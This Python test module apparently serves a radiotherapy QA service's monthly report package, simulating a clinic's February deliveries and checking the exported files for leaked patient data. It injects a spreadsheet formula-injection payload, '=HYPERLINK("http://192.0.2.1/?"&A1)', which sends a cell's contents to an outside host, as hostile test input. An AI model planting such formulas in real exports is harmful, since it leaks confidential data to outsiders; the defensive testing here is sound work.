"""A clinic with months to tell of, and its package read back by what did not write it."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import zipfile
from collections.abc import Mapping
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

from sqlalchemy import insert

from dashboards.reports.month_data import MonthData, gather
from dashboards.reports.month_form import form
from dashboards.reports.month_package import write_package
from qa_daemon.model import AnalysisReport, Report, Value
from qa_daemon.pipeline import judge
from qa_daemon.store import service_events
from qa_daemon.store.ledger import Arrival, Fingerprint
from qa_daemon.store.months import Month
from qa_daemon.store.results import Provenance
from qa_daemon.store.schema import notifications
from qa_daemon.store.service_events import EventKind, ServiceEvent
from qa_daemon.trends.follower import TrendFollower
from tests.dashboards.clinic import HOSTILE, PATIENT, Clinic
from tests.servers import installed

FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1)'
BERLIN = ZoneInfo("Europe/Berlin")
NOW = datetime(2026, 3, 2, 8, 30, tzinfo=UTC)
SECRETS = {
    "identity": PATIENT,
    "name": "Erika CANARYNAME",
    "operator": "OPERATORCANARY",
    "failure": "FAILURECANARY",
    "warning": "WARNINGCANARY",
    "place": "PLACECANARY",
    "serial": "SERIALCANARY",
    "file": "FILECANARY",
    "error": "ERRORCANARY",
    "note": "NOTECANARY",
}


def leaf_report(
    at: datetime,
    rms_mm: float,
    *,
    place: str = "A31",
    energy: str = "6 MV",
    technique: str | None = None,
    failure: str | None = None,
) -> Report:
    """A delivery with two judged numbers, one for the trend alone, and perhaps no answer."""
    numbers = (
        Value(metric="worst_leaf_rms", value=rms_mm, unit="mm", at=place),
        Value(metric="largest_error", value=2.5 * rms_mm, unit="mm", at=place),
        Value(metric="counted_leaves", value=64.0, unit="1"),
    )
    said = [AnalysisReport(analyzer="mlc_positions", version="1", values=numbers)]
    if failure is not None:
        said.append(AnalysisReport(analyzer="axes", version="2", failure=failure))
    return Report(
        format="varian-trajectory-log",
        machine_class="truebeam",
        machine_serial=SECRETS["serial"],
        performed_at=at.replace(tzinfo=None),
        energy=energy,
        technique=technique,
        identity={
            "patient_id": SECRETS["identity"],
            "patient_name": SECRETS["name"],
            "operator": SECRETS["operator"],
        },
        warnings=(SECRETS["warning"],),
        analyses=tuple(said),
    )


class MonthClinic:
    """The clinic of the page tests, with deliveries whose files can be judged again."""

    def __init__(self, folder: Path, now: datetime, more: str = "") -> None:
        folder.mkdir(parents=True, exist_ok=True)
        self.clinic = Clinic(folder, now, more)
        self.site, self.store = self.clinic.site, self.clinic.store
        self.out = folder / "out"
        self._files = 0

    def deliver(self, machine: str | None, at: datetime, report: Report) -> int:
        """A new file, judged."""
        self._files += 1
        name = f"{SECRETS['file']}_{self._files}.bin"
        written = Fingerprint(f"/in/{machine}/{name}", 10, 1_000_000_000, name)
        self.file = self.clinic.ledger.add(
            Arrival(written, f"/in/{machine}", name, machine, f"{self._files:064x}")
        )
        return self.again(machine, at, report)

    def again(self, machine: str | None, at: datetime, report: Report, settings: str = "") -> int:
        """The last file once more: the result takes the place of the one before."""
        known = self.site.machine_named(machine)
        made = Provenance("0.1.0", settings or self.site.fingerprint, machine, "truebeam", at)
        outcomes = judge(report, self.site, known)
        saved = self.clinic.results.save(self.file, [], report, outcomes, made)
        assert saved is not None
        return saved

    def tell(self, result: int, title: str, to: str | None, at: str | None) -> None:
        """A message about a result."""
        row = {"result": result, "title": title, "body": "b", "created_at": "2026-02-01T00:00:00"}
        sent = {"state": "sent" if to else "pending", "attempts": 1, "sent_to": to, "sent_at": at}
        with self.store.write() as connection:
            connection.execute(insert(notifications).values(**row, **sent))

    def follow_trends(self) -> None:
        """As the service does."""
        judged = [
            tuple(name.split(".")) for name, metric in self.site.metrics.items() if metric.is_judged
        ]
        follower = TrendFollower(self.store, [(a, m) for a, m in judged], self.site.zone)
        queries = self.clinic.queries
        follower.write(queries.results_of(range(1, queries.last_result_id() + 1)))

    def gather(self, name: str) -> MonthData:
        """The month as it is told, in no file: for what is no matter of files."""
        titles = {a.name: a.title for a in self.clinic.catalogue.analyzers}
        return gather(self.site, self.store, Month.called(name, self.site.zone), titles)

    def told(self, name: str) -> dict[str, Any]:
        """The same as what the JSON file holds."""
        found: dict[str, Any] = json.loads(json.dumps(form(self.gather(name))))
        return found

    def package(self, name: str, only: str | None = None) -> dict[str, Path]:
        """The files of a month by their endings."""
        titles = {a.name: a.title for a in self.clinic.catalogue.analyzers}
        month = Month.called(name, self.site.zone)
        made = write_package(self.site, self.store, month, self.out, titles, only)
        return {path.suffix.removeprefix("."): path for path in made}


def fill_february(clinic: MonthClinic) -> dict[str, int]:
    """Two machines, three a day; what is out, back, judged again, unanswered and unreadable."""
    ids: dict[str, int] = {}
    for day in range(28):
        for n in range(3):
            for machine in ("TB1", "TB2"):
                at = datetime(2026, 2, 1, 7 + n, 15, tzinfo=BERLIN) + timedelta(days=day)
                rms_mm = 0.03 + 0.002 * ((7 * day + 3 * n) % 11)
                if machine == "TB2":
                    rms_mm += 0.2 * (day >= 20)
                if (machine, day, n) == ("TB1", 9, 1):
                    rms_mm = 0.6
                if machine == "TB1" and day in (14, 15):
                    continue
                report = leaf_report(at, rms_mm, energy="10xFFF" if n == 2 else "6 MV")
                ids[f"{machine}-{day}-{n}"] = clinic.deliver(machine, at, report)
    at = datetime(2026, 2, 12, 18, tzinfo=BERLIN)
    ids["old"] = clinic.deliver("TB1", at, leaf_report(at, 0.5))
    ids["new"] = clinic.again("TB1", at, leaf_report(at, 0.05))
    at = datetime(2026, 2, 28, 19, tzinfo=BERLIN)
    bad = leaf_report(at, 0.4, place=SECRETS["place"], failure=SECRETS["failure"])
    ids["unanswered"] = clinic.deliver("TB1", at, bad)
    unread = Report(error_code="TLOG_CRC", error_message=SECRETS["error"])
    ids["unreadable"] = clinic.deliver("TB2", datetime(2026, 2, 3, 12, tzinfo=BERLIN), unread)
    strange = leaf_report(at, 0.03)
    ids["strange"] = clinic.deliver(SECRETS["serial"], at, strange)
    _say_hostile_things(clinic)
    clinic.tell(
        ids["TB1-9-1"],
        "ACTION TB1: MLC leaf positions",
        "Physicist A by mailto",
        "2026-02-10T07:16:00Z",
    )
    clinic.tell(
        ids["TB1-9-2"],
        "Cleared TB1: MLC leaf positions",
        "Physicist B by ntfy",
        "2026-02-10T08:16:00Z",
    )
    cleared = "Cleared TB1: MLC leaf positions"
    clinic.tell(ids["TB1-9-1"], cleared, "Physicist B by ntfy", "2026-02-10T07:17:00Z")
    clinic.tell(ids["TB1-9-1"], "ACTION TB1: Axes", "Physicist B by ntfy", "2026-02-10T07:18:00Z")
    clinic.tell(
        ids["old"],
        "ACTION TB1: MLC leaf positions",
        "Physicist A by mailto",
        "2026-02-12T17:01:00Z",
    )
    clinic.tell(ids["unanswered"], "INVALID TB1: Axes", None, None)
    return ids


def _say_hostile_things(clinic: MonthClinic) -> None:
    """Words wherever somebody could have typed them."""
    at = datetime(2026, 2, 20, 9, tzinfo=BERLIN)
    clinic.deliver(HOSTILE, at, leaf_report(at, 0.6, place=FORMULA, energy="+6 MV"))
    said = f"{FORMULA} of {SECRETS['identity'].lower()} and {SECRETS['name']}"
    at_ns = service_events.instant_of(at)
    events = [
        ServiceEvent("TB1", EventKind.PART, said, at_ns),
        ServiceEvent("TB2", EventKind.OTHER, "#panic() *bold*", at_ns),
    ]
    # The clock was put right afterwards: acts are not in order of time.
    now, clinic.clinic.now = clinic.clinic.now, at
    service_events.enter(clinic.store, events, "Physicist A")
    clinic.clinic.now = now


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def read_json(path: Path) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(path.read_text("utf-8"))
    return found


def machine_in(told: Mapping[str, Any], name: str) -> dict[str, Any]:
    (found,) = [machine for machine in told["machines"] if machine["name"] == name]
    return dict(found)


def every_text(files: Mapping[str, Path]) -> str:
    """All that can be read in a package: names of files, text of pages, parts of the workbook."""
    program = installed("pdftotext")
    said = [path.name for path in files.values()]
    said += [files[ending].read_text("utf-8") for ending in ("csv", "json", "sha256")]
    with zipfile.ZipFile(io.BytesIO(files["xlsx"].read_bytes())) as book:
        said += [book.read(name).decode() for name in book.namelist()]
    pages = subprocess.run([program, str(files["pdf"]), "-"], capture_output=True, check=True)
    said.append(pages.stdout.decode().replace("\u200b", ""))
    return "\n".join(said)
